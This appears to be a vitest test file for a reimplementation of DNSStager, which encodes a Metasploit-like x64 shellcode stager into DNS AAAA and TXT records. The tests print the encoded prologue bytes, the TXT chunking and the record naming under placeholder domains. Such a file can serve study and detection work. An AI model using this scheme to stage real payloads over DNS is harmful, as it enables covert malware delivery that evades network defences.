import { describe, expect, it } from 'vitest';
import { aaaaAnswers, aaaaZoneStrings, dnslibIpv6Bytes, msfLikeStager, stagerName, txtRecords, X64_STAGER_PROLOGUE, xorHex } from './dnsstager';
import { toHex } from './encoding';

const prologue = msfLikeStager().subarray(0, 64);

describe('DNSStager AAAA encoding (dns-c2-facts.md §1.3)', () => {
  it('serves the 64-byte x64 prologue as the exact answers of the table, key 0x00', () => {
    expect(aaaaAnswers(prologue, 0x00)).toEqual([
      'fc48:83e4:f0e8:c800:0:4151:4150:5251',
      '5648:31d2:6548:8b52:6048:8b52:1848:8b52',
      '2048:8b72:5048:fb7:4a4a:4d31:c948:31c0',
      'ac3c:617c:22c:2041:c1c9:d41:1c1:e2ed',
    ]);
  });

  it('serves the README/screenshot answers with key 0x0a', () => {
    expect(aaaaAnswers(prologue, 0x0a)).toEqual([
      'f642:89ee:fae2:c20a:a0a:4b5b:4b5a:585b',
      '5c42:3bd8:6f42:8158:6a42:8158:1242:8158',
      '2a42:8178:5a42:5bd:4040:473b:c342:3bca',
      'a636:6b76:826:2a4b:cbc3:74b:bcb:e8e7',
    ]);
  });

  it('serves the key 0x10 column', () => {
    expect(aaaaAnswers(prologue, 0x10)).toEqual([
      'ec58:93f4:e0f8:d810:1010:5141:5140:4241',
      '4658:21c2:7558:9b42:7058:9b42:858:9b42',
      '3058:9b62:4058:1fa7:5a5a:5d21:d958:21d0',
      'bc2c:716c:123c:3051:d1d9:1d51:11d1:f2fd',
    ]);
  });

  it('pads short last records with unencoded zero bytes, as dnslib does', () => {
    const p = msfLikeStager();
    expect(aaaaAnswers(p.subarray(0, 37), 0x00).at(-1)).toBe('2048:8b72:50::');
    expect(aaaaAnswers(p.subarray(0, 44), 0x10).at(-1)).toBe('3058:9b62:4058:1fa7:5a5a:5d21::');
    expect(aaaaAnswers(p.subarray(0, 45), 0x00).at(-1)).toBe('2048:8b72:5048:fb7:4a4a:4d31:c9:0');
    expect(aaaaZoneStrings(p.subarray(0, 37), 0)[2]).toBe('2048:8b72:50');
    expect(toHex(dnslibIpv6Bytes('2048:8b72:50'))).toBe('20488b72005000000000000000000000');
  });

  it('needs 32 AAAA records and 7 TXT records for the 510-byte stager', () => {
    const p = msfLikeStager();
    expect(p).toHaveLength(510);
    expect(toHex(p.subarray(0, 64))).toBe(X64_STAGER_PROLOGUE);
    expect(aaaaAnswers(p, 0x0a)).toHaveLength(32);
    expect(txtRecords(p, 0)).toHaveLength(7);
    expect(toHex(msfLikeStager())).toBe(toHex(p));
  });

  it('writes TXT records as base64 of the XOR hex string in 200-char pieces', () => {
    const [only] = txtRecords(prologue, 0);
    expect(only).toHaveLength(172);
    expect(only?.startsWith('ZmM0ODgzZTRmMGU4YzgwMDAwMDA0MTUxNDE1MDUyNTE1NjQ4MzFkMjY1NDg4YjUy')).toBe(true);
    expect(only?.endsWith('MWUyZWQ=')).toBe(true);
    expect(txtRecords(msfLikeStager(), 0x41).every((r, i, all) => r.length === 200 || i === all.length - 1)).toBe(true);
  });

  it('names records prefix + counter + "." + domain with no padding or separator', () => {
    expect(stagerName('cloud-srv-', 12, 'test.mydnsserver.live')).toBe('cloud-srv-12.test.mydnsserver.live');
    expect(stagerName('cdn', 0, 'fakedns.live')).toBe('cdn0.fakedns.live');
  });

  it('rejects keys that are not one byte', () => {
    expect(() => xorHex(prologue, 256)).toThrow();
    expect(xorHex(new Uint8Array([0x0f]), 0xf0)).toBe('ff');
  });
});
